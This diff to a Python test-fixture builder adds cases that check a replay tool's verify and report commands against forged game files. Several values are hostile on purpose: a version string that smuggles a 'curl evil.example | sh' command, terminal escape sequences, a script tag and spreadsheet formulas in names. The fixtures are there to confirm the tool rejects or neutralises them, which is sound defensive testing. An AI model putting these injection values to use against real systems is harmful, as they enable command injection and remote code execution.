@@ -154,6 +154,8 @@ def _edit_line(source: Path, target: Path, index: int, edit: Callable[[dict], No
 # Participants' names as a person can type them (sim.record.workshop.check_name lets punctuation
 # through): the report must show them as text, never run them.
 HOSTILE_NAMES = ("<script>alert(1)</script>", "=1+2")
+# What a forger writes as the version that recorded a game: printed in advice to install it.
+SHELL_VERSION = "0.0.9'; curl -s evil.example | sh; echo '"
 
 
 def _workshop(root: Path) -> tuple[Path, Path, list[Path]]:
@@ -239,6 +241,10 @@ def build(root: Path) -> tuple[list[Case], dict[str, Path]]:
             lambda h: h.update(scenario="nowhere", scenario_source="/tmp/\x00x.toml"),
             refold=False,
         ),
+        # A version that clears the screen when a divergence names it (check recomputed).
+        "version-escape": forge(
+            honest, root / "version-escape.jsonl", _set("app_version", "\x1b[2J9.9")
+        ),
         "source-zero": forge(
             honest,
             root / "source-zero.jsonl",
@@ -299,6 +305,12 @@ def build(root: Path) -> tuple[list[Case], dict[str, Path]]:
     lines[0]["app_version"] = "0.0.9"
     lines[0]["check"] = header_check(lines[0])
     _write(chloe, lines)
+    # The same, with a "version" that is a shell command: the report's advice to install the
+    # version that recorded it must not hand the trainer that command to paste.
+    shell = report_folder / ("shell-version-" + games[2].name)
+    lines[0]["app_version"] = SHELL_VERSION
+    lines[0]["check"] = header_check(lines[0])
+    _write(shell, lines)
     # File names a spreadsheet or a terminal would act on.
     (report_folder / "=HYPERLINK(1+1).jsonl").write_text("not a replay\n")
     (report_folder / "\x1b[2Jclear.jsonl").write_text("not a replay\n")
@@ -571,6 +583,14 @@ def build(root: Path) -> tuple[list[Case], dict[str, Path]]:
             str(forged["source-nul"]),
         ),
         Case(
+            "verify-version-escape",
+            "replay",
+            ("replay", "verify", str(forged["version-escape"])),
+            2,
+            "app_version: expected a version",
+            str(forged["version-escape"]),
+        ),
+        Case(
             "verify-move-unknown-field",
             "replay",
             ("replay", "verify", str(moves["move-unknown"])),
@@ -790,6 +810,16 @@ def build(root: Path) -> tuple[list[Case], dict[str, Path]]:
             "pip install 'leverage==0.0.9'",
             None,
             one_line=False,
+        ),
+        Case(
+            "report-version-shell",
+            "report",
+            ("workshop", "report", str(report_folder)),
+            0,
+            "app_version: expected a version",
+            None,
+            one_line=False,
+            stdout_lacks=("curl",),
         ),
         Case(
             "report-text-escape",
